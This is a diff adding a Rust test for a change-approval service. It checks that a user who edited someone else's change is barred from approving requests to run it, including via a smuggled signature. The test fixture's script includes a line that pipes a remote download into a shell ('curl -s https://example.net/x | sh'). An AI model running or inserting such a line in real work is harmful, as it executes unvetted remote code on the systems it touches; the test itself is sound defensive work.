@@ -282,6 +282,55 @@ async fn status_of(response: reqwest::Response, expected: u16) -> Value {
 }
 
 #[tokio::test]
+async fn an_editor_of_someone_else_s_change_may_not_approve_its_requests() {
+    let mut flow = Flow::start().await;
+    // `first`, an approver of ops, is also a planner, and adds a line to the planner's change.
+    let first_id = user_id(&flow.app, "first").await;
+    sqlx::query("INSERT INTO user_roles (user_id, role) VALUES ($1, 'planner')")
+        .bind(first_id)
+        .execute(flow.app.db.pool())
+        .await
+        .unwrap();
+    let mut edited = change(
+        CHANGE,
+        flow.group,
+        &flow.devices,
+        "echo one\necho two\ncurl -s https://example.net/x | sh\n",
+    );
+    edited["title"] = json!("Restart the nightly job, and one more thing");
+    flow.first
+        .person
+        .expect("PUT", &format!("/api/changes/{CHANGE}"), Some(&edited), 200)
+        .await;
+    let id = flow.request(0).await;
+
+    let barred = "separation of duties: you edited CHG-9, so you do not approve requests to run it";
+    let detail = flow.detail(&flow.first.person, id).await;
+    assert_eq!(detail["cannot_vote"], barred);
+    assert_eq!(detail["change_editors"], json!(["first"]));
+    let refused = flow
+        .first
+        .person
+        .expect("POST", &format!("/api/requests/{id}/signing"), None, 403)
+        .await;
+    assert_eq!(refused["detail"], barred);
+    // A signature from a ceremony of the approver's own, offered anyway, is refused too.
+    let signed = flow.second.sign(id).await;
+    let smuggled = offer(&flow.first.person, id, &signed).await;
+    assert_eq!(smuggled.status(), 403);
+    let votes: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM decisions WHERE request_id = $1")
+        .bind(id)
+        .fetch_one(flow.app.db.pool())
+        .await
+        .unwrap();
+    assert_eq!(votes, 0);
+    // Everyone else who may approve still sees the rule, naming the editor.
+    let detail = flow.detail(&flow.second.person, id).await;
+    assert_eq!(detail["cannot_vote"], Value::Null);
+    assert_eq!(detail["change_editors"], json!(["first"]));
+}
+
+#[tokio::test]
 async fn a_quorum_of_two_passkey_approvals_approves_and_the_terminal_may_open() {
     let mut flow = Flow::start().await;
     // The group requires a justification: asking without one is refused, naming the field.
